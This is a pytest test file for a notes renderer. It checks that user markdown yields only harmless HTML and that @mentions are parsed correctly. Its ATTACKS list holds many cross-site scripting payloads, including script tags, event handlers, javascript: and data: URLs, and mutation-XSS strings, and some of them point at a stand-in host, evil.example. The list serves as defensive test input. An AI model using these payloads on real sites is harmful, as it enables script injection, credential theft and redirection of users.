"""Text of people: nothing in it becomes active HTML, and mentions are found where they are meant."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from skyhub.notes import html_of, mentions_in

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "title\\" onclick=\\"alert(1)")',
    "![x](https://evil.example/pixel.png)",
    '![x](x"onerror="alert(1))',
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>@import 'https://evil.example'</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<form action=https://evil.example><input name=p><button>x</button></form>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<!-- --!><script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


class Elements(HTMLParser):
    """The elements and attributes of a document, as a browser would find them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += attrs


HARMLESS = {
    "a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip


def _require_harmless(text: str) -> None:
    found = Elements(html_of(text))
    assert found.tags <= HARMLESS
    assert {name for name, _ in found.attributes} <= {"href", "rel", "title", "start"}
    links = [value or "" for name, value in found.attributes if name == "href"]
    assert all(link.lower().startswith(("http://", "https://", "mailto:")) or ":" not in link for link in links)


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_shown_as_text(attack: str) -> None:
    _require_harmless(attack)


@given(
    st.lists(st.sampled_from([*ATTACKS, "<", ">", '"', "'", "&", "](", "[", "`", "\n\n", "- ", "> ", "\\"])).map(
        "".join
    )
)
def test_no_mixture_of_attacks_becomes_active(text: str) -> None:
    _require_harmless(text)


def test_markdown_is_rendered() -> None:
    html = html_of("Rising **fast**, see [paper](https://doi.org/10.1086/427976).\n\n- a\n- b\n\n|x|y|\n|-|-|\n|1|2|")
    assert "<strong>fast</strong>" in html
    assert '<a href="https://doi.org/10.1086/427976" rel="noopener noreferrer nofollow">paper</a>' in html
    assert "<li>a</li>" in html
    assert "<td>1</td>" in html


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("", []),
        ("write to vera@example.org", []),
        ("`@vera` is code\n\n```\n@olaf\n```", []),
        ("@", []),
        ("@vera, @olaf.b: look. @vera again (@x-y)", ["vera", "olaf.b", "x-y"]),
        ("**@vera** and\n@olaf.", ["vera", "olaf"]),
        ("path/@vera and @@vera", []),
    ],
)
def test_mentions(text: str, names: list[str]) -> None:
    assert mentions_in(text) == names
